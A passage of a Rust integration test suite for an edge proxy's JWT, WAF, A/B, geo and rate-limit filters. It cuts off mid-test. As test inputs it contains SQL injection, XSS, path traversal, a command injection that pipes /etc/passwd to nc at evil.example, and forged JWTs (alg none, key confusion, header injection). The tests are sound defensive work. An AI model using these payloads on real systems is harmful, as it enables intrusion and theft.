//! The filters that come with the node, on a node: what clients and origins see of them, alone, together and over a reload.
//!
//! Their deadlines are long here: a machine that runs the whole suite at once is no measure.

use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::time::{SystemTime, UNIX_EPOCH};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use bytes::Bytes;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use selvedge_demo::Demo;
use selvedge_tests::h2::H2Client;
use selvedge_tests::{Client, Edge, Origin, Response, soon};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::net::TcpSocket;

const SECRET: &str = "correct horse battery staple correct horse";

/// A node with these filters (YAML of the section), geography, the demo origin, a second one, and one site with these routes.
fn node(filters: &str, routes: &str, next: SocketAddr) -> Edge {
    Edge::start(&yaml(filters, routes), &[("next", next)])
}

fn yaml(filters: &str, routes: &str) -> String {
    format!(
        "geo: {{ database: \"builtin:test\" }}
cache: {{}}
upstreams:
  demo: {{ builtin: demo }}
  next: {{ endpoints: [\"127.0.0.1:${{PORT_next}}\"] }}
filters:
{filters}
sites: [{{ hosts: [\"*\"], routes: [{routes}] }}]"
    )
}

/// Another demo origin, on a thread of its own.
fn next() -> Demo {
    Demo::builder().name("next").start(([127, 0, 0, 1], 0).into()).expect("a port")
}

/// A line of the section `filters`.
fn filter(name: &str, config: &Value) -> String {
    format!("  {name}: {{ wasm: \"builtin:{name}\", limits: {{ deadline: 10s, memory: 64MiB }}, config: {config} }}\n")
}

/// A request over HTTP/2 from a source address of our own choice.
async fn from(
    source: &str,
    edge: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Response {
    let socket = TcpSocket::new_v4().expect("a socket");
    socket.bind(SocketAddr::new(source.parse().expect("an address"), 0)).expect("all of 127/8 is loopback");
    let stream = soon("connect", socket.connect(edge)).await.expect("connects");
    let (send, connection) = soon("h2 handshake", h2::client::handshake(stream)).await.expect("h2");
    let driver = tokio::spawn(connection);
    let mut request = http::Request::builder().method(method).uri(format!("http://test{path}"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let mut send = soon("h2 ready", send.ready()).await.expect("ready");
    let (response, mut upload) =
        send.send_request(request.body(()).expect("a request"), body.is_empty()).expect("sent");
    if !body.is_empty() {
        // Who is refused by the header may have been by now, and the stream reset.
        let _ = upload.send_data(Bytes::copy_from_slice(body), true);
    }
    let response = H2Client::collect(soon("h2 response", response).await.expect("a response")).await.expect("a body");
    driver.abort();
    response
}

/// All values of a field, as the origin's `/echo` saw them.
fn echoed(echo: &Response, name: &str) -> Vec<String> {
    let fields = echo.json()["headers"].as_array().expect("a list of fields").clone();
    fields.iter().filter(|field| field[0] == name).map(|field| field[1].as_str().expect("text").to_owned()).collect()
}

// ---- jwt-auth ----

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970").as_secs()
}

fn claims() -> Value {
    json!({ "sub": "alice", "iss": "https://id.example", "aud": "shop", "exp": now() + 600 })
}

fn mint(algorithm: Algorithm, kid: Option<&str>, claims: &Value, key: &EncodingKey) -> String {
    let header = Header { kid: kid.map(ToOwned::to_owned), ..Header::new(algorithm) };
    jsonwebtoken::encode(&header, claims, key).expect("a token")
}

fn hs256(claims: &Value) -> String {
    mint(Algorithm::HS256, None, claims, &EncodingKey::from_secret(SECRET.as_bytes()))
}

fn with(change: &Value) -> Value {
    let mut claims = claims();
    claims.as_object_mut().expect("an object").extend(change.as_object().expect("an object").clone());
    claims
}

fn bearer(token: &str) -> String {
    format!("authorization: Bearer {token}\r\n")
}

fn jwt(extra: &Value) -> Value {
    let mut config = json!({
        "issuer": "https://id.example", "audience": "shop", "realm": "shop", "claims_to_headers": { "sub": "x-user" },
    });
    config.as_object_mut().expect("an object").extend(extra.as_object().expect("an object").clone());
    config
}

/// The keys of RFC 7515, A.2 and A.3.
mod example {
    use super::{EncodingKey, Engine, STANDARD, Value, json};

    const RSA: &str = "MIIEowIBAAKCAQEAofgWCuLjybRlzo0tZWJjNiuSfb4p4fAkd/wWJcyQoTbji9k0l8W26mPddxHmfHQp+Vaw+4qPCJrcS2mJPMEzP1Pt0Bm4d4QlL+yRT+SFd2lZS+pCgNMsD1W/YpRPEwOWvG6b32690r2jZ47soMZo9wGzjb/7OMg0LOL+bSf63kpaSHSXndS5z5rexMdbBYUsLA9e+KXBdQOS+UTo7WTBEMa2R2CapHg665xsmtdVMTBQY4uDZlxvb3qCo5ZwKh9kG4LT6/I5IhlJH7aGhyxXFvUK+DWNmoudF8NAco9/h9iaGNj8q2ethFkMLs91kzk2PAcDTW9gb54h4FRWyuXpoQIDAQABAoIBABKucaRpzQorw35SbEUAVx8dYXUdZOlJcHtiWQ+dC6V8ljxAHj/PLyzTveyI5QO/xkObCyjIL303l2cfUhPu2MFaJdjVzqACXuOrLot/eSFvxjvqVidTtAZExqFRJ9mylUVAoLvhowVWmC1On95fZCXxTUtxNEG1Xcc7m0rtzJKs45J+N/V9DP1edYH6USyPSWGp6wuA+KgHRnKKVf9GRx80JQY7nVNkL17eHoTWEwga+lwi0FEoW9Y7lDtWXYmKBWhUE+U8PGxlJf8f40493HDw1WRQ/aSLoS4QTp3rn7gYgeHEvfJdkkf0UMhlknlo53M09EFPdadQ4TlUbjqKc50CgYEA4BzEEOtIpmVdVEZNCqS7baC4crd0pqnRH/5IB3jw3bcxGn6QLvnEtfdUdiYrqBdss1l58BQ3KhooKeQTa9AB0Hw/Py5PJdTJNPY8cQn7ouZ2KKDcmnPGBY5t7yLc1QlQ5xHdwW1VhvKn+nXqhJTBgIPgtldC+KDV5z+y2XDwGUcCgYEAuQPEfgmVtjL0Uyyx88GZFF1fOunH3+7cepKmtH4pxhtCoHqpWmT8YAmZxaewHgHAjLYsp1ZSe7zFYHj7C6ul7TjeLQeZD/YwD66t62wDmpe/HlB+TnBA+njbglfIsRLtXlnDzQkv5dTltRJ11BKBBypeeF6689rjcJIDEz9RWdcCgYAHAp9XcCSrn8wVkMVkKdb7DOX4IKjzdahm+ctDAJN4O/y7OW5FKebvUjdAIt2GuoTZ71iTG+7F0F+lP88jtjP4U4qe7VHoewl4MKOfXZKTe+YCS1XbNvfgwJ3Ltyl1OH9hWvu2yza7q+d5PCsDzqtm27kxuvULVeya+TEdAB1ijQKBgQCH/3r6YrVH/uCWGy6bzV1nGNOdjKc9tmkfOJmN54dxdixdpozCQ6U4OxZrsj3FcOhHBsqAHvX2uuYjagqvo3cOj1TRqNocX40omfCCMx3bD1yPPf/6TI2XECva/ggqEY2mYzmIiA5LVVmc5nrybr+lssFKneeyxN2Wq93S0iJMdQKBgCGHewxzoa1r8ZMD0LETNrToK423K377UCYqXfg5XMclbrjPbEC3YI1ZNqMtuhdBJqUnBi6tjKMF+34Xf0CUN8ncuXGO2CAYvO8PdyCixHX52ybaDjy1FtCE6yUXjoKNXKvUm7MWGsAYH6f4IegOetN5NvmUMFStCSkh7ixZLkN1";
    const EC: &str = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgjpsQnnGQmL+YBIffH1136cspYG6+0iY7X1fCE9+E9LKhRANCAAR/zc4ncPbEXUGDy+5v20t7WAczNXvp7xO6z248e9FURcfxRM0bvZt+hyzf7bnuufSzaV1uqQskrYpGIyiFiOWt";
    /// The modulus, which everybody may know.
    pub(super) const MODULUS: &str = "ofgWCuLjybRlzo0tZWJjNiuSfb4p4fAkd_wWJcyQoTbji9k0l8W26mPddxHmfHQp-Vaw-4qPCJrcS2mJPMEzP1Pt0Bm4d4QlL-yRT-SFd2lZS-pCgNMsD1W_YpRPEwOWvG6b32690r2jZ47soMZo9wGzjb_7OMg0LOL-bSf63kpaSHSXndS5z5rexMdbBYUsLA9e-KXBdQOS-UTo7WTBEMa2R2CapHg665xsmtdVMTBQY4uDZlxvb3qCo5ZwKh9kG4LT6_I5IhlJH7aGhyxXFvUK-DWNmoudF8NAco9_h9iaGNj8q2ethFkMLs91kzk2PAcDTW9gb54h4FRWyuXpoQ";

    pub(super) fn rsa() -> EncodingKey {
        EncodingKey::from_rsa_der(&STANDARD.decode(RSA).expect("base64"))
    }

    pub(super) fn ec() -> EncodingKey {
        EncodingKey::from_ec_der(&STANDARD.decode(EC).expect("base64"))
    }

    pub(super) fn rsa_jwk() -> Value {
        json!({ "kty": "RSA", "kid": "rsa", "use": "sig", "alg": "RS256", "n": MODULUS, "e": "AQAB" })
    }

    pub(super) fn ec_jwk() -> Value {
        json!({
            "kty": "EC", "kid": "ec", "crv": "P-256",
            "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU", "y": "x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0",
        })
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn jwt_only_good_tokens_reach_the_origin() {
    let next = next();
    let filters = filter("jwt-auth", &jwt(&json!({ "secret": SECRET })));
    let edge = node(&filters, "{ name: all, filters: [jwt-auth], to: demo }", next.addr());
    let ask = async |headers: &str| Client::get_with(edge.web(), "/private", headers).await;

    let none = ask("").await;
    assert_eq!((none.status, none.header("www-authenticate")), (401, Some("Bearer realm=\"shop\"")));
    assert_eq!(none.header("content-type"), Some("application/problem+json"));

    let good = hs256(&claims());
    let (head, signature) = good.rsplit_once('.').unwrap();
    let unsigned = |header: &str| {
        let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
        format!("{}.{}", part(header), part(&claims().to_string()))
    };
    let tampered = format!(
        "{}.{}.{signature}",
        head.split('.').next().unwrap(),
        URL_SAFE_NO_PAD.encode(with(&json!({ "sub": "root" })).to_string())
    );
    for (why, token) in [
        ("no token", "x".to_owned()),
        (
            "another secret",
            mint(
                Algorithm::HS256,
                None,
                &claims(),
                &EncodingKey::from_secret(b"another secret that is as long as it must be"),
            ),
        ),
        ("another claim", tampered),
        ("no signature", format!("{head}.")),
        ("alg none", format!("{}.", unsigned("{\"alg\":\"none\"}"))),
        ("alg none with a signature", format!("{}.{signature}", unsigned("{\"alg\":\"none\",\"typ\":\"JWT\"}"))),
        ("alg nOnE", format!("{}.", unsigned("{\"alg\":\"nOnE\"}"))),
        ("another algorithm", mint(Algorithm::HS512, None, &claims(), &EncodingKey::from_secret(SECRET.as_bytes()))),
        ("expired", hs256(&with(&json!({ "exp": now() - 3600 })))),
        ("no end", hs256(&json!({ "sub": "alice", "iss": "https://id.example", "aud": "shop" }))),
        ("too early", hs256(&with(&json!({ "nbf": now() + 3600 })))),
        ("another issuer", hs256(&with(&json!({ "iss": "https://evil.example" })))),
        ("another audience", hs256(&with(&json!({ "aud": ["bank", "forum"] })))),
        ("a user that no header can hold", hs256(&with(&json!({ "sub": "a\r\nx-admin: yes" })))),
    ] {
        let refused = ask(&bearer(&token)).await;
        let challenge = refused.header("www-authenticate").unwrap_or_default();
        assert_eq!(refused.status, 401, "{why}");
        assert!(challenge.starts_with("Bearer realm=\"shop\", error=\"invalid_token\""), "{why}: {challenge}");
        let all = format!("{:?} {}", refused.headers, refused.text());
        assert!(!all.contains(SECRET) && (token.len() < 20 || !all.contains(&token)), "{why}: {all}");
    }
    let expired = ask(&bearer(&hs256(&with(&json!({ "exp": now() - 3600 }))))).await;
    assert!(expired.header("www-authenticate").unwrap().contains("expired"));
    let twice = ask(&format!("{}{}", bearer(&good), bearer(&good))).await;
    assert_eq!(twice.status, 400, "RFC 6750, 3.1");

    let passed = ask(&bearer(&good)).await;
    assert_eq!((passed.status, passed.json()["user"].as_str()), (200, Some("alice")));
    assert_eq!(passed.header("x-origin-requests"), Some("1"), "nothing before has reached the origin");

    let forged = format!("{}x-user: mallory\r\nX_User: mallory\r\nx-user: eve\r\n", bearer(&good));
    let echo = Client::get_with(edge.web(), "/echo", &forged).await;
    assert_eq!((echoed(&echo, "x-user"), echoed(&echo, "x_user")), (vec!["alice".to_owned()], vec![]));
    let h2 = H2Client::connect_tls(edge.secure(), "localhost").await;
    let authorization = format!("Bearer {good}");
    let h2 =
        h2.request("GET", "/private", &[("authorization", &authorization), ("x-user", "mallory")], b"").await.unwrap();
    assert_eq!(h2.json()["user"].as_str(), Some("alice"));
}

#[tokio::test(flavor = "multi_thread")]
async fn jwt_keys_come_from_a_file() {
    let next = next();
    let folder = TempDir::new().unwrap();
    let keys = folder.path().join("keys.json");
    std::fs::write(&keys, json!({ "keys": [example::rsa_jwk(), example::ec_jwk()] }).to_string()).unwrap();
    let filters = filter("jwt-auth", &jwt(&json!({ "jwks_file": keys })));
    let routes = "{ name: all, filters: [jwt-auth], to: demo }";
    let mut edge = node(&filters, routes, next.addr());
    let web = edge.web();
    let ask = async |token: &str| Client::get_with(web, "/private", &bearer(token)).await;

    let rs256 = mint(Algorithm::RS256, Some("rsa"), &claims(), &example::rsa());
    let es256 = mint(Algorithm::ES256, Some("ec"), &claims(), &example::ec());
    for token in [&rs256, &es256] {
        for _ in 0..2 {
            let passed = ask(token).await;
            assert_eq!((passed.status, passed.json()["user"].as_str()), (200, Some("alice")));
        }
    }

    let jwks = std::fs::read_to_string(&keys).unwrap();
    for (why, token) in [
        (
            "the public key as a secret",
            mint(
                Algorithm::HS256,
                Some("rsa"),
                &claims(),
                &EncodingKey::from_secret(&URL_SAFE_NO_PAD.decode(example::MODULUS).unwrap()),
            ),
        ),
        (
            "the key file as a secret",
            mint(Algorithm::HS256, None, &claims(), &EncodingKey::from_secret(jwks.as_bytes())),
        ),
        ("the other key's name", mint(Algorithm::RS256, Some("ec"), &claims(), &example::rsa())),
        ("an unknown key", mint(Algorithm::ES256, Some("other"), &claims(), &example::ec())),
        ("an algorithm the key is not for", mint(Algorithm::RS384, Some("rsa"), &claims(), &example::rsa())),
    ] {
        assert_eq!(ask(&token).await.status, 401, "{why}");
    }

    // The file counts as of the last reload; what was verified before is forgotten.
    std::fs::write(&keys, json!({ "keys": [example::ec_jwk()] }).to_string()).unwrap();
    assert_eq!(ask(&rs256).await.status, 200);
    edge.reload(&yaml(&filters, routes)).unwrap();
    assert_eq!((ask(&rs256).await.status, ask(&es256).await.status), (401, 200));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hit_is_only_for_those_with_a_token() {
    let next = next();
    let filters = filter("jwt-auth", &jwt(&json!({ "secret": SECRET, "forward_token": false })));
    let edge = node(&filters, "{ name: \"all-${ID}\", filters: [jwt-auth], cache: {}, to: demo }", next.addr());
    let token = bearer(&hs256(&claims()));
    let first = Client::get_with(edge.web(), "/cache/60", &token).await;
    assert_eq!((first.status, first.header("x-origin-count")), (200, Some("1")));
    assert!(
        first.header("cache-status").unwrap().ends_with("; stored"),
        "without the token it is anybody's: {first:?}"
    );
    let second = Client::get_with(edge.web(), "/cache/60", &token).await;
    assert!(second.header("cache-status").unwrap().starts_with("edge; hit"));
    assert_eq!(Client::get(edge.web(), "/cache/60").await.status, 401);
}

// ---- waf ----

const SQL: &str = "1%27%20UNION%20SELECT%20password%20FROM%20users--%20";
const FORM: &str = "content-type: application/x-www-form-urlencoded\r\n";
const JSON: &str = "content-type: application/json\r\n";

#[tokio::test(flavor = "multi_thread")]
async fn waf_attacks_are_refused_and_look_alikes_pass() {
    let origin = Origin::start(|request| Origin::reply(200, &[], request.body.clone())).await;
    let edge = node(&filter("waf", &json!({})), "{ name: all, filters: [waf], to: next }", origin.address());
    let web = edge.web();

    for (attack, response) in [
        ("SQL in the query", Client::get(web, &format!("/items?id={SQL}")).await),
        ("SQL in a cookie", Client::get_with(web, "/", "cookie: id=1' UNION SELECT password FROM users-- \r\n").await),
        (
            "script in a form",
            Client::post(web, "/comment", FORM, b"name=a&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E")
                .await,
        ),
        ("traversal in the path", Client::get(web, "/files/..%2f..%2f..%2f..%2fetc%2fpasswd").await),
        ("traversal in the query", Client::get(web, "/download?file=../../../../etc/passwd").await),
        (
            "a command in JSON",
            Client::post(
                web,
                "/ping",
                JSON,
                br#"{"options": {"host": "127.0.0.1; cat /etc/passwd | nc evil.example 99"}}"#,
            )
            .await,
        ),
        ("a scanner", Client::get_with(web, "/", "user-agent: sqlmap/1.8.2#stable (https://sqlmap.org)\r\n").await),
    ] {
        assert_eq!(
            (response.status, response.header("content-type")),
            (403, Some("application/problem+json")),
            "{attack}"
        );
        let text = response.text();
        assert!(!["passw", "script", "UNION"].iter().any(|echo| text.contains(echo)), "{attack} is echoed: {text}");
    }
    assert_eq!(origin.started(), 0, "not a byte of them has reached the origin");

    // In pieces that say nothing each, and over HTTP/2.
    let mut client = Client::connect(web).await;
    client
        .send(format!("POST /comment HTTP/1.1\r\nhost: test\r\n{FORM}transfer-encoding: chunked\r\n\r\n").as_bytes())
        .await;
    for piece in ["comment=%3Cscr", "ipt%3Eale", "rt(docum", "ent.cookie)%3C%2Fscript%3E"] {
        client.send(format!("{:x}\r\n{piece}\r\n", piece.len()).as_bytes()).await;
    }
    client.send(b"0\r\n\r\n").await;
    assert_eq!(client.response("POST").await.status, 403);
    let h2 = H2Client::connect(web).await;
    let body = format!("id={SQL}");
    let refused = h2
        .request("POST", "/", &[("content-type", "application/x-www-form-urlencoded")], body.as_bytes())
        .await
        .unwrap();
    assert_eq!(refused.status, 403);
    assert_eq!(origin.started(), 0);

    let answers = [
        ("words of SQL", Client::get(web, "/search?q=select+a+union+representative+from+the+list+of+members").await),
        ("an apostrophe", Client::get(web, "/people?name=O%27Brien%20and%20sons").await),
        ("mathematics", Client::post(web, "/comment", FORM, b"comment=5+%3C+7+%26+8+%3E+6").await),
        ("a heart", Client::post(web, "/comment", FORM, b"comment=I+%3C3+scripts").await),
        ("dots", Client::get(web, "/files/report..2024/v1...v2.txt").await),
        (
            "prose",
            Client::post(web, "/note", JSON, br#"{"note": "My cat; she lists everything | and pings me & you."}"#)
                .await,
        ),
        (
            "a browser",
            Client::get_with(
                web,
                "/",
                "user-agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0\r\n",
            )
            .await,
        ),
        (
            "a picture",
            Client::post(web, "/avatar", "content-type: image/png\r\n", b"\x89PNG <script>alert(1)</script>").await,
        ),
    ];
    let refused: Vec<_> =
        answers.iter().filter(|(_, response)| response.status != 200).map(|(harmless, _)| *harmless).collect();
    assert!(refused.is_empty(), "{refused:?}");
    let note = br#"{"text": "Whatever it was, it arrived whole."}"#;
    assert_eq!(Client::post(web, "/note", JSON, note).await.body, note);
    assert_eq!(origin.last().body.as_ref(), note);
}

#[tokio::test(flavor = "multi_thread")]
async fn waf_detects_where_a_route_says_so() {
    let origin = Origin::start(|_| Origin::reply(200, &[], "")).await;
    let routes = "{ name: all, filters: [waf], to: next }, { name: watched, match: { path: /watched/* }, filters: [{ waf: { mode: detect } }], to: next }";
    let edge = node(&filter("waf", &json!({})), routes, origin.address());
    assert_eq!(Client::get(edge.web(), &format!("/?id={SQL}")).await.status, 403);
    assert_eq!(Client::get_with(edge.web(), &format!("/watched/?id={SQL}"), "x-waf-score: 0\r\n").await.status, 200);
    let scores: Vec<_> = origin.last().headers.into_iter().filter(|(name, _)| name == "x-waf-score").collect();
    assert!(scores.len() == 1 && scores[0].1.parse::<u32>().unwrap() >= 5, "{scores:?}");
    Client::get_with(edge.web(), "/harmless", "x-waf-score: 99\r\n").await;
    assert_eq!(origin.last().header("x-waf-score"), None, "forged");
}

// ---- ab-routing ----

fn experiment(user: &Value) -> Value {
    json!({
        "experiment": "checkout", "user": user,
        "variants": [{ "name": "control", "weight": 50 }, { "name": "one-page", "weight": 50, "upstream": "next" }],
    })
}

/// Which origin answers for the variant.
fn origin_of(variant: &str) -> &'static str {
    if variant == "control" { "demo" } else { "next" }
}

#[tokio::test(flavor = "multi_thread")]
async fn ab_users_stay_where_the_cookie_says() {
    let next = next();
    let edge = node(
        &filter("ab-routing", &experiment(&json!("generated"))),
        "{ name: all, filters: [ab-routing], to: demo }",
        next.addr(),
    );
    let mut seen = BTreeSet::new();
    for _ in 0..40 {
        let first = Client::get(edge.web(), "/upstream").await;
        let cookie = first.header("set-cookie").expect("a cookie for a new user").to_owned();
        let (pair, attributes) = cookie.split_once("; ").unwrap();
        let variant = pair.strip_prefix("ab-checkout=").expect("the experiment's cookie");
        assert_eq!(first.json()["origin"], origin_of(variant));
        if seen.insert(variant.to_owned()) {
            for attribute in ["Max-Age=2592000", "Path=/", "HttpOnly", "SameSite=Lax"] {
                assert!(attributes.contains(attribute), "{cookie}");
            }
            assert!(!attributes.contains("Secure"), "over plain text");
            for _ in 0..20 {
                let again = Client::get_with(edge.web(), "/upstream", &format!("cookie: a=b; {pair}\r\n")).await;
                assert_eq!(
                    (again.json()["origin"].as_str(), again.header("set-cookie")),
                    (Some(origin_of(variant)), None)
                );
            }
            let forged = format!("cookie: {pair}\r\nx-ab-checkout: other\r\nx_ab_checkout: other\r\n");
            let echo = Client::get_with(edge.web(), "/echo", &forged).await;
            assert_eq!(
                (echoed(&echo, "x-ab-checkout"), echoed(&echo, "x_ab_checkout")),
                (vec![variant.to_owned()], vec![])
            );
        }
    }
    assert_eq!(seen.len(), 2, "40 new users, and none of one half: {seen:?}");

    let gone = Client::get_with(edge.web(), "/upstream", "cookie: ab-checkout=abolished\r\n").await;
    assert!(gone.header("set-cookie").is_some(), "a variant that is no more is replaced");
    let tls =
        H2Client::connect_tls(edge.secure(), "localhost").await.request("GET", "/upstream", &[], b"").await.unwrap();
    assert!(tls.header("set-cookie").unwrap().contains("Secure"));
}

#[tokio::test(flavor = "multi_thread")]
async fn ab_every_node_draws_the_same() {
    let next = next();
    let filters = filter("ab-routing", &experiment(&json!({ "header": "x-user" })));
    let routes = "{ name: all, filters: [ab-routing], to: demo },
        { name: testers, match: { path: /testers/* }, filters: [{ ab-routing: { override_header: x-ab-override } }], to: demo }";
    let (one, other) = (node(&filters, routes, next.addr()), node(&filters, routes, next.addr()));
    let mut seen = BTreeSet::new();
    for user in 0..20 {
        let user = format!("x-user: user-{user}\r\n");
        let drawn = Client::get_with(one.web(), "/upstream", &user).await.json()["origin"].clone();
        assert_eq!(Client::get_with(one.web(), "/upstream", &user).await.json()["origin"], drawn);
        assert_eq!(Client::get_with(other.web(), "/upstream", &user).await.json()["origin"], drawn);
        // Nobody has given testers a header on this route.
        for variant in ["control", "one-page"] {
            let asked = format!("{user}x-ab-override: {variant}\r\n");
            assert_eq!(Client::get_with(one.web(), "/upstream", &asked).await.json()["origin"], drawn);
        }
        seen.insert(drawn.to_string());
    }
    assert_eq!(seen.len(), 2, "{seen:?}");

    for variant in ["control", "one-page"] {
        let tester =
            Client::get_with(one.web(), "/testers/x", &format!("x-user: user-1\r\nx-ab-override: {variant}\r\n")).await;
        assert_eq!((tester.header("x-origin"), tester.header("set-cookie")), (Some(origin_of(variant)), None));
    }
}

/// Each variant has its own pages in the cache, and they come from its own upstream, also when they are renewed.
#[tokio::test(flavor = "multi_thread")]
async fn ab_variants_are_cached_apart() {
    const STALE: [(&str, &str); 3] =
        [("cache-control", "max-age=60, stale-while-revalidate=600"), ("age", "100"), ("vary", "x-ab-checkout")];
    let control = Origin::start(|_| Origin::reply(200, &STALE, "control")).await;
    let one_page = Origin::start(|_| Origin::reply(200, &STALE, "one-page")).await;
    let text = yaml(
        &filter("ab-routing", &experiment(&json!("generated"))),
        "{ name: \"all-${ID}\", filters: [ab-routing], cache: {}, to: control }",
    )
    .replace("demo: { builtin: demo }", "control: { endpoints: [\"127.0.0.1:${PORT_control}\"] }");
    let edge = Edge::start(&text, &[("control", control.address()), ("next", one_page.address())]);
    for _ in 0..10 {
        for variant in ["control", "one-page"] {
            let page = Client::get_with(edge.web(), "/page", &format!("cookie: ab-checkout={variant}\r\n")).await;
            assert_eq!((page.status, page.text().as_str()), (200, variant));
        }
    }
    for (origin, variant) in [(&control, "control"), (&one_page, "one-page")] {
        let asked = origin.received();
        assert!(!asked.is_empty() && asked.iter().all(|request| request.header("x-ab-checkout") == Some(variant)));
    }
}

// ---- geo-routing ----

const GERMANY: &str = "127.64.0.1";
const AMERICA: &str = "127.65.3.4";
const JAPAN: &str = "127.66.255.254";
const NOWHERE: &str = "127.0.0.1";

#[tokio::test(flavor = "multi_thread")]
async fn geo_countries_are_refused_and_continents_have_their_upstream() {
    let next = next();
    let geo = json!({ "deny": ["JP"], "routes": [{ "continents": ["NA"], "upstream": "next" }], "response_header": "x-country" });
    let routes = "{ name: all, filters: [geo-routing], to: demo },
        { name: legal, match: { path: /legal/* }, filters: [{ geo-routing: { deny: [\"continent:EU\"], status: 451 } }], to: demo },
        { name: home, match: { path: /home/* }, filters: [{ geo-routing: { deny: [], allow: [DE], routes: [] } }], to: demo }";
    let edge = node(&filter("geo-routing", &geo), routes, next.addr());
    let ask = async |source: &str, path: &str| {
        from(source, edge.web(), "GET", path, &[("x-geo-country", "XX"), ("x_geo_country", "XX")], b"").await
    };

    for (source, country, origin) in
        [(GERMANY, Some("DE"), "demo"), (AMERICA, Some("US"), "next"), (NOWHERE, None, "demo")]
    {
        let passed = ask(source, "/echo").await;
        assert_eq!(
            (passed.status, passed.header("x-origin"), passed.header("x-country")),
            (200, Some(origin), country),
            "{source}"
        );
        assert_eq!(
            echoed(&passed, "x-geo-country"),
            country.map(ToOwned::to_owned).into_iter().collect::<Vec<_>>(),
            "{source}"
        );
        assert!(echoed(&passed, "x_geo_country").is_empty(), "what the client says of itself does not count");
    }
    let refused = ask(JAPAN, "/echo").await;
    assert_eq!(
        (refused.status, refused.header("content-type"), refused.header("x-origin")),
        (403, Some("application/problem+json"), None)
    );
    assert!(!refused.text().contains("JP"));

    let statuses = async |path: &str| {
        let mut statuses = Vec::new();
        for source in [GERMANY, AMERICA, JAPAN, NOWHERE] {
            statuses.push(ask(source, path).await.header("x-origin").is_some());
        }
        statuses
    };
    assert_eq!(ask(GERMANY, "/legal/x").await.status, 451);
    assert_eq!(statuses("/legal/x").await, [false, true, true, true]);
    assert_eq!(statuses("/home/x").await, [true, false, false, false], "who is nowhere is not in Germany");
}

// ---- rate-limit ----

#[tokio::test(flavor = "multi_thread")]
async fn rate_limits_are_shared_by_all_workers() {
    const BURST: usize = 25;
    let yaml = format!(
        "version: 1
node: {{ name: edge, workers: 2, shutdown_grace: 1s }}
telemetry: {{ access_log: {{ output: off }} }}
listeners:
  web: {{ bind: \"127.0.0.1:0\", protocols: [h1, h2] }}
upstreams:
  demo: {{ builtin: demo }}
filters:
{}
sites: [{{ hosts: [\"*\"], routes: [{{ name: all, filters: [rate-limit], to: demo }}] }}]",
        filter("rate-limit", &json!({ "name": "api", "rate": "25/h", "burst": BURST })),
    );
    let edge = Edge::start(&yaml, &[]);
    let answers = futures::future::join_all((0..2 * BURST).map(|_| Client::get(edge.web(), "/upstream"))).await;
    let (passed, limited): (Vec<_>, Vec<_>) = answers.iter().partition(|answer| answer.status == 200);
    assert_eq!((passed.len(), limited.len()), (BURST, BURST));

    let mut left = BTreeSet::new();
    for answer in passed {
        assert_eq!(
            (answer.header("ratelimit-policy"), answer.header("retry-after")),
            (Some("\"api\";q=25;w=3600"), None)
        );
        let quota = answer.header("ratelimit").unwrap();
        let remaining =
            quota.strip_prefix("\"api\";r=").and_then(|rest| rest.split_once(";t=")).expect("both parameters").0;
        left.insert(remaining.parse::<usize>().unwrap());
    }
    assert_eq!(left, (0..BURST).collect(), "each token once");
    for answer in limited {
        assert_eq!((answer.status, answer.header("content-type")), (429, Some("application/problem+json")));
        let wait: u64 = answer.header("retry-after").expect("when to come back").parse().unwrap();
        assert!((100..=144).contains(&wait), "25 an hour is one in 144 s: {wait}");
        assert!(answer.header("ratelimit").unwrap().starts_with("\"api\";r=0;t="));
        assert_eq!(answer.header("x-origin"), None);
    }
    let reached = Client::get(edge.web(), "/upstream").await;
    assert_eq!(reached.status, 429, "still");
}

#[tokio::test(flavor = "multi_thread")]
async fn rate_limits_count_each_key_by_itself() {
    let next = next();
    let filters = filter(
        "rate-limit",
        &json!({ "rate": "2/h", "key": { "header": "x-api-key" }, "missing": "deny", "legacy_headers": true }),
    );
    let routes = "{ name: all, filters: [rate-limit], to: demo }, { name: address, match: { path: /upstream }, filters: [{ rate-limit: { name: address, key: client_ip } }], to: demo }";
    let edge = node(&filters, routes, next.addr());
    for key in ["a", "b", "c"] {
        let headers = format!("x-api-key: {key}\r\n");
        let mut statuses = Vec::new();
        for _ in 0..4 {
            statuses.push(Client::get_with(edge.web(), "/echo", &headers).await.status);
        }
        assert_eq!(statuses, [200, 200, 429, 429], "{key}");
        let limited = Client::get_with(edge.web(), "/echo", &headers).await;
        assert_eq!(
            (limited.header("x-ratelimit-limit"), limited.header("x-ratelimit-remaining")),
            (Some("2"), Some("0"))
        );
    }
    assert_eq!(Client::get(edge.web(), "/echo").await.status, 403, "nobody to count it under");

    for source in [GERMANY, AMERICA] {
        for expected in [200, 200, 429] {
            assert_eq!(from(source, edge.web(), "GET", "/upstream", &[], b"").await.status, expected, "{source}");
        }
    }
}

// ---- together ----

#[tokio::test(flavor = "multi_thread")]
async fn all_five_in_one_chain() {
    let next = next();
    let mut filters = filter("geo-routing", &json!({ "deny": ["JP"], "response_header": "x-country" }));
    filters += &filter("waf", &json!({}));
    filters += &filter("jwt-auth", &jwt(&json!({ "secret": SECRET })));
    filters += &filter("rate-limit", &json!({ "name": "user", "rate": "3/h", "key": { "header": "x-user" } }));
    filters += &filter("ab-routing", &experiment(&json!({ "header": "x-user" })));
    let routes = "{ name: all, filters: [geo-routing, waf, jwt-auth, rate-limit, ab-routing], to: demo }";
    let edge = node(&filters, routes, next.addr());
    let authorization = format!("Bearer {}", hs256(&claims()));
    let post = async |source: &str, authorization: &str, body: &str| {
        let headers = [
            ("content-type", "application/json"),
            ("authorization", authorization),
            ("x-user", "mallory"),
